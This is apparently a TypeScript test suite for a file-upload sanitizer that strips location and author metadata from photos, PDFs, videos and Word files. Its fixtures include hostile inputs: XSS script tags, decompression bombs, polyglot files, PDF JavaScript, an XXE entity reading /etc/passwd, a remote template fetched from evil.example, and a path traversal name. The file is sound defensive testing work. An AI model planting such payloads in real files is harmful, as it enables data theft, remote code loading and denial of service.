import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFRawStream } from 'pdf-lib';
import sharp from 'sharp';
import { afterAll, describe, expect, test, vi } from 'vitest';
import { inspectFile } from './inspect.ts';
import { isBomb } from './pdf-bomb.ts';
import { pack, readZip, unpack, writeZip } from './zip.ts';

const folder = mkdtempSync(join(tmpdir(), 'lapor-inspect-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const canary = 'kx-Ni-Luh-Sukerti-0813-xk';
const docxType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

let count = 0;
/** What is found of a file with this content, and what is kept of it. */
async function inspect(content: Buffer | string, limits = { maxPixels: 64_000_000, maxPages: 3 }) {
  count += 1;
  const [input, output] = [join(folder, `${count}`), join(folder, `${count}.clean`)];
  writeFileSync(input, content);
  const found = await inspectFile(input, output, limits);
  return { found, kept: typeof found === 'string' ? Buffer.alloc(0) : readFileSync(output) };
}

/** The longest time for which nobody else had a turn while this content was looked at, as a part of all that time. */
async function shareOfLongestTurn(content: Buffer): Promise<number> {
  const before = performance.now();
  let [last, longest, done] = [before, 0, false];
  const turn = () => {
    const now = performance.now();
    [last, longest] = [now, Math.max(longest, now - last)];
    if (!done) setImmediate(turn);
  };
  setImmediate(turn);
  await inspect(content);
  turn();
  done = true;
  return longest / (performance.now() - before);
}

/** 24 by 16 pixels, as a phone in Bandung takes them. */
const photo = () =>
  sharp({ create: { width: 24, height: 16, channels: 3, background: '#b5651d' } }).withExif({
    IFD0: { Artist: canary, ImageDescription: canary },
    IFD3: {
      GPSLatitudeRef: 'S',
      GPSLatitude: '6/1 54/1 5328/100',
      GPSLongitudeRef: 'E',
      GPSLongitude: '107/1 36/1 3600/100',
    },
  });
const bandung = { lat: -6.9148, lon: 107.61 };

describe('a photo', () => {
  test.each([
    ['JPEG', 'image/jpeg', () => photo().jpeg().toBuffer()],
    ['PNG', 'image/png', () => photo().png().toBuffer()],
    ['WebP', 'image/webp', () => photo().webp().toBuffer()],
  ] as const)('as %s is painted anew, and its place told and not kept', async (_, type, make) => {
    const before = await make();
    expect(before.includes(canary)).toBe(true);
    const { found, kept } = await inspect(before);
    expect(found).toMatchObject({ type, gps: bandung, bytes: kept.length });
    const facts = await sharp(kept).metadata();
    expect(facts).toMatchObject({ width: 24, height: 16 });
    expect([facts.exif, facts.xmp, facts.iptc]).toEqual([undefined, undefined, undefined]);
    expect(kept.includes(canary)).toBe(false);
  });

  test('lies as its camera was held', async () => {
    const { kept } = await inspect(await photo().withMetadata({ orientation: 6 }).jpeg().toBuffer());
    expect(await sharp(kept).metadata()).toMatchObject({ width: 16, height: 24 });
  });

  test('without a place tells none, and one of zeros neither', async () => {
    const plain = await sharp({ create: { width: 8, height: 8, channels: 3, background: 'red' } })
      .jpeg()
      .toBuffer();
    expect((await inspect(plain)).found).toMatchObject({ gps: null });
    const zeros = await sharp(plain)
      .withExif({
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '0/1 0/1 0/1',
          GPSLongitudeRef: 'E',
          GPSLongitude: '0/1 0/1 0/1',
        },
      })
      .jpeg()
      .toBuffer();
    expect((await inspect(zeros)).found).toMatchObject({ gps: null });
  });

  test('that another file hides in or behind is kept without it', async () => {
    const jpeg = await photo().jpeg().toBuffer();
    const zip = writeZip([await pack('evil.class', Buffer.from(canary))]);
    const html = Buffer.from(`<script>alert("${canary}")</script>`);
    const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, html.length + 2]), html]);
    for (const polyglot of [
      Buffer.concat([jpeg, html]),
      Buffer.concat([jpeg, zip]),
      Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]),
    ]) {
      const { found, kept } = await inspect(polyglot);
      expect(found).toMatchObject({ type: 'image/jpeg' });
      expect(kept.includes('script') || kept.includes('PK') || kept.includes(canary)).toBe(false);
    }
  });

  test('cut in the middle is damaged', async () => {
    const noise = Buffer.from(Array.from({ length: 64 * 64 * 3 }, (_, index) => (index * 7919) % 256));
    const jpeg = await sharp(noise, { raw: { width: 64, height: 64, channels: 3 } })
      .jpeg()
      .toBuffer();
    expect((await inspect(jpeg.subarray(0, jpeg.length / 2))).found).toBe('damaged');
  });

  test('of more pixels than there may be is refused by its header, in no time', async () => {
    const chunk = (name: string, data: Buffer) => {
      const body = Buffer.concat([Buffer.from(name), data]);
      const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
      length.writeUInt32BE(data.length);
      sum.writeUInt32BE(crc32(body));
      return Buffer.concat([length, body, sum]);
    };
    const size = Buffer.alloc(8);
    size.writeUInt32BE(60_000, 0);
    size.writeUInt32BE(60_000, 4);
    const bomb = Buffer.concat([
      Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
      chunk('IHDR', Buffer.concat([size, Buffer.from([8, 2, 0, 0, 0])])),
      chunk('IDAT', deflateSync(Buffer.alloc(1_000_000))),
      chunk('IEND', Buffer.alloc(0)),
    ]);
    const before = process.memoryUsage().rss;
    expect((await inspect(bomb)).found).toBe('pixels');
    expect(process.memoryUsage().rss - before).toBeLessThan(200_000_000);
  });

  test('as HEIC that cannot be decoded says so', async () => {
    const head = Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1');
    expect((await inspect(Buffer.concat([head, Buffer.alloc(200)]))).found).toBe('heic');
  });
});

test.each([
  ['empty file', ''],
  ['SVG', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
  ['page', '<!doctype html><script>alert(1)</script>'],
  ['EICAR', 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'],
  ['program', Buffer.from('7f454c46020101000000000000000000', 'hex')],
  ['GIFAR', Buffer.concat([Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1'), Buffer.from('PK\x03\x04')])],
])('%s is none of the kinds that are taken', async (_, content) => {
  expect((await inspect(content)).found).toBe('type');
});

describe('a PDF', () => {
  async function makePdf(pages = 1) {
    const document = await PDFDocument.create();
    for (let page = 0; page < pages; page += 1) document.addPage([200, 200]).drawText('Surat keterangan');
    document.setAuthor(canary);
    document.setTitle(canary);
    const jpeg = await photo().jpeg().toBuffer();
    document.getPage(0).drawImage(await document.embedJpg(jpeg), { x: 10, y: 10 });
    return document;
  }

  test('is written anew without its properties, scripts and attached files; its pages stay', async () => {
    const document = await makePdf(2);
    document.addJavaScript('evil', `app.alert("${canary}")`);
    await document.attach(Buffer.from(canary), 'evil.html', { description: canary });
    document.catalog.set(
      PDFName.of('OpenAction'),
      document.context.obj({ S: 'JavaScript', JS: document.context.obj(canary.length) }),
    );
    const { found, kept } = await inspect(Buffer.from(await document.save({ useObjectStreams: false })));
    expect(found).toMatchObject({ type: 'application/pdf', gps: null });
    const again = await PDFDocument.load(kept, { updateMetadata: false });
    expect(again.getPageCount()).toBe(2);
    expect(again.getAuthor()).toBeUndefined();
    const plain = await PDFDocument.load(kept, { updateMetadata: false });
    const text = Buffer.from(await plain.save({ useObjectStreams: false })).toString('latin1');
    expect(text).not.toMatch(/JavaScript|OpenAction|EmbeddedFile|Sukerti|Artist/);
    expect(text).toContain('/DCTDecode');
  });

  test('with a page or an archive behind it is kept without', async () => {
    const bytes = Buffer.from(await (await makePdf()).save());
    for (const more of [
      Buffer.from(`<script>${canary}</script>`),
      writeZip([await pack('a', Buffer.from(canary))]),
    ]) {
      const { found, kept } = await inspect(Buffer.concat([bytes, more]));
      expect(found).toMatchObject({ type: 'application/pdf' });
      expect(kept.includes('<script>') || kept.includes('PK\x03\x04')).toBe(false);
    }
  });

  test('of more pages than there may be is refused', async () => {
    expect((await inspect(Buffer.from(await (await makePdf(4)).save()))).found).toBe('pages');
  });

  test('locked by a password is refused as that', async () => {
    const bytes = Buffer.from(await (await makePdf()).save({ useObjectStreams: false })).toString('latin1');
    const locked = bytes.replace('trailer\n<<', 'trailer\n<<\n/Encrypt << /Filter /Standard /V 1 /R 2 >>');
    expect(locked).not.toBe(bytes);
    expect((await inspect(Buffer.from(locked, 'latin1'))).found).toBe('locked');
  });

  test('whose objects unpack to more than any document has is refused before they are', async () => {
    for (const name of ['ObjStm', '#4fbjStm']) {
      const packed = deflateSync(Buffer.alloc(100_000_000));
      const bomb = Buffer.concat([
        Buffer.from(
          `%PDF-1.5\n1 0 obj\n<< /Type /${name} /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
        ),
        packed,
        Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF'),
      ]);
      expect((await inspect(bomb)).found).toBe('damaged');
    }
  });

  test.each([
    ['packed once more', 'FlateDecode', deflateSync],
    ['written in letters', 'ASCIIHexDecode', (bytes: Buffer) => Buffer.from(`${bytes.toString('hex')}>`)],
    ['under a filter that lies elsewhere', null, (bytes: Buffer) => bytes],
  ] as const)('keeps no place of a photo that is %s', async (_, filter, wrap) => {
    const document = await makePdf();
    const { context } = document;
    const jpeg = await photo().jpeg().toBuffer();
    const Filter =
      filter === null ? context.register(PDFName.of('DCTDecode')) : context.obj([filter, 'DCTDecode']);
    const facts = { Type: 'XObject', Subtype: 'Image', Width: 24, Height: 16, Filter };
    context.register(context.stream(wrap(jpeg), facts));
    const { found, kept } = await inspect(Buffer.from(await document.save()));
    expect(found).toMatchObject({ type: 'application/pdf' });
    const again = await PDFDocument.load(kept, { updateMetadata: false });
    const photos = again.context
      .enumerateIndirectObjects()
      .flatMap(([, object]) =>
        object instanceof PDFRawStream && String(object.dict.get(PDFName.of('Filter'))) === '/DCTDecode'
          ? [Buffer.from(object.contents)]
          : [],
      );
    expect(photos).toHaveLength(2);
    for (const one of photos) {
      expect(one.includes(canary)).toBe(false);
      expect(await sharp(one).raw().toBuffer()).toEqual(await sharp(jpeg).raw().toBuffer());
      expect((await sharp(one).metadata()).exif).toBeUndefined();
    }
  });

  test('with a photo packed in a way that nobody packs photos is refused', async () => {
    const document = await makePdf();
    const { context } = document;
    const facts = { Subtype: 'Image', Filter: context.obj(['RunLengthDecode', 'DCTDecode']) };
    context.register(context.stream(await photo().jpeg().toBuffer(), facts));
    expect((await inspect(Buffer.from(await document.save()))).found).toBe('damaged');
  });

  test('whose streams never end leaves others their turns', async () => {
    const hostile = Buffer.from(`%PDF-1.7\n1 0 obj\n${'<< stream\n'.repeat(20_000)}`);
    expect(await shareOfLongestTurn(hostile)).toBeLessThan(0.5);
  });

  test('is read once for bombs, however many of its streams never end', async () => {
    const hostile = Buffer.from(`%PDF-1.7\n1 0 obj\n${'<< stream\n'.repeat(20_000)}`);
    const reading = vi.spyOn(hostile, 'toString');
    expect(await isBomb(hostile)).toBe(false);
    const read = reading.mock.calls.reduce((sum, [, from = 0, to = 0]) => sum + to - from, 0);
    expect(read).toBeLessThan(2 * hostile.length);
  });

  test('of nothing but a head is damaged', async () => {
    expect((await inspect('%PDF-1.7\n<script>alert(1)</script>')).found).toBe('damaged');
  });
});

describe('a video', () => {
  const box = (name: string, ...content: (Buffer | string)[]) => {
    const body = Buffer.concat(content.map((part) => Buffer.from(part)));
    const head = Buffer.alloc(8);
    head.writeUInt32BE(body.length + 8, 0);
    head.write(name, 4, 'latin1');
    return Buffer.concat([head, body]);
  };
  const track = (handler: string) =>
    box(
      'trak',
      box('tkhd', Buffer.alloc(84)),
      box(
        'mdia',
        box('mdhd', Buffer.alloc(24)),
        box('hdlr', Buffer.alloc(8), handler, Buffer.alloc(12), `${canary}\0`),
      ),
      box('udta', canary),
    );
  const place = box('\xa9xyz', Buffer.from([0, 17, 0x15, 0xc7]), '-06.9148+107.6100/');
  const video = (...tracks: Buffer[]) =>
    Buffer.concat([
      box('ftyp', 'isom', Buffer.alloc(4), 'isommp42'),
      box('moov', box('mvhd', Buffer.alloc(100)), ...tracks, box('udta', place), box('meta', canary)),
      box('uuid', `<x:xmpmeta>${canary}</x:xmpmeta>`),
      box('mdat', 'the pictures'),
    ]);

  test('loses its place and descriptions, and every byte that plays stays where it was', async () => {
    const before = video(track('vide'), track('soun'));
    const { found, kept } = await inspect(before);
    expect(found).toMatchObject({ type: 'video/mp4' });
    expect(kept.length).toBe(before.length);
    expect(kept.includes(canary) || kept.includes('107.6100') || kept.includes('\xa9xyz')).toBe(false);
    expect(kept.indexOf('the pictures')).toBe(before.indexOf('the pictures'));
  });

  test('that records its place along the way is refused', async () => {
    expect((await inspect(video(track('vide'), track('meta')))).found).toBe('location');
  });

  test('with another file behind it, without a picture, or of boxes that do not fit is damaged', async () => {
    const whole = video(track('vide'));
    expect((await inspect(Buffer.concat([whole, Buffer.from('PK\x03\x04 an archive')]))).found).toBe(
      'damaged',
    );
    expect((await inspect(video(track('soun')))).found).toBe('damaged');
    expect((await inspect(whole.subarray(0, whole.length - 3))).found).toBe('damaged');
  });
});

describe('a document', () => {
  const text = `<w:document><w:p w:rsidR="1"><w:ins w:author="${canary}">Jalan rusak</w:ins></w:p></w:document>`;
  const types =
    '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
    '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>';
  const relations =
    '<Relationships><Relationship Id="rId1" Type="http://x/officeDocument" Target="word/document.xml"/>' +
    '<Relationship Id="rId2" Type="http://x/core-properties" Target="docProps/core.xml"/></Relationships>';
  const makeDocx = async (more: Readonly<Record<string, string | Buffer>> = {}) =>
    writeZip(
      await Promise.all(
        Object.entries({
          '[Content_Types].xml': types,
          '_rels/.rels': relations,
          'word/document.xml': text,
          'docProps/core.xml': `<cp:coreProperties><dc:creator>${canary}</dc:creator></cp:coreProperties>`,
          ...more,
        }).map(([name, content]) => pack(name, Buffer.from(content))),
      ),
    );
  const partsOf = async (bytes: Buffer) =>
    Object.fromEntries(
      await Promise.all(
        (readZip(bytes) ?? []).map(async (entry) => [entry.name, await unpack(entry)] as const),
      ),
    );

  test('loses its properties and the names in it, and the places of its pictures', async () => {
    const jpeg = await photo().jpeg().toBuffer();
    const png = await photo().png().toBuffer();
    const { found, kept } = await inspect(
      await makeDocx({ 'word/media/image1.jpeg': jpeg, 'word/media/image2.png': png }),
    );
    expect(found).toMatchObject({ type: docxType });
    const parts = await partsOf(kept);
    expect(Object.keys(parts)).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'word/document.xml',
      'word/media/image1.jpeg',
      'word/media/image2.png',
    ]);
    const all = Buffer.concat(Object.values(parts).flatMap((part) => part ?? []));
    expect(all.includes(canary) || all.includes('docProps')).toBe(false);
    expect(String(parts['word/document.xml'])).toContain('Jalan rusak');
    for (const [name, before] of [
      ['word/media/image1.jpeg', jpeg],
      ['word/media/image2.png', png],
    ] as const) {
      const after = parts[name] ?? Buffer.alloc(0);
      expect((await sharp(after).metadata()).exif).toBeUndefined();
      expect(await sharp(after).raw().toBuffer()).toEqual(await sharp(before).raw().toBuffer());
    }
  });

  test('with a page before, or an archive between its parts is kept without', async () => {
    const { found, kept } = await inspect(
      Buffer.concat([await makeDocx(), Buffer.from(`<script>${canary}`)]),
    );
    expect(found).toMatchObject({ type: docxType });
    expect(kept.includes('<script>')).toBe(false);
  });

  test.each([
    ['macros', { 'word/vbaProject.bin': 'x' }],
    ['another file inside', { 'word/embeddings/oleObject1.bin': 'x' }],
    [
      'an entity',
      { 'word/footnotes.xml': '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' },
    ],
    [
      'a template from elsewhere',
      {
        'word/_rels/settings.xml.rels':
          '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
      },
    ],
    [
      'a template from elsewhere that hides',
      {
        'word/_rels/settings.xml.rels':
          '<p:Relationships><p:Relationship Id="a>b/hyperlink" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="Exter&#110;al"/></p:Relationships>',
      },
    ],
  ])('with %s is refused', async (_, more) => {
    expect((await inspect(await makeDocx(more))).found).toBe('active');
  });

  test('that unpacks to more than it says, or than any document has, is refused', async () => {
    const entries = readZip(await makeDocx()) ?? [];
    const bomb = await pack('word/bomb.xml', Buffer.alloc(80_000_000));
    expect((await inspect(writeZip([...entries, bomb]))).found).toBe('size');
    expect((await inspect(writeZip([...entries, { ...bomb, bytes: 1_000 }]))).found).toBe('damaged');
  });

  test('with a link for its reader to follow is taken', async () => {
    const links =
      '<Relationships><Relationship Id="r1" Type="http://x/hyperlink" Target="https://bandung.go.id/" TargetMode="External"/></Relationships>';
    const { found } = await inspect(await makeDocx({ 'word/_rels/document.xml.rels': links }));
    expect(found).toMatchObject({ type: docxType });
  });

  test('in an encoding that cannot be looked through is damaged', async () => {
    for (const part of [
      Buffer.from('\ufeff<w:comments w:author="x"/>', 'utf16le'),
      '<?xml version="1.0" encoding="UTF-7"?><w:comments/>',
    ]) {
      expect((await inspect(await makeDocx({ 'word/comments.xml': part }))).found).toBe('damaged');
    }
  });

  test.each([
    ['relations', 'word/_rels/document.xml.rels', '<Relationship '],
    ['relations told in quotes', 'word/_rels/document.xml.rels', '<Relationship Target="docProps/'],
    ['names', 'word/document.xml', ' w:author='],
    ['spaces', 'word/document.xml', `${' '.repeat(1_000)}w:author`],
  ])('of endless %s leaves others their turns, and is judged', async (_, name, piece) => {
    const hostile = await makeDocx({ [name]: piece.repeat(3_000_000 / piece.length) });
    expect(hostile.length).toBeLessThan(30_000);
    expect(await shareOfLongestTurn(hostile)).toBeLessThan(0.5);
    expect((await inspect(hostile)).found).toMatchObject({ type: docxType });
  });

  test('with names that lead elsewhere is damaged', async () => {
    expect((await inspect(await makeDocx({ '../../etc/passwd': 'x' }))).found).toBe('damaged');
  });
});
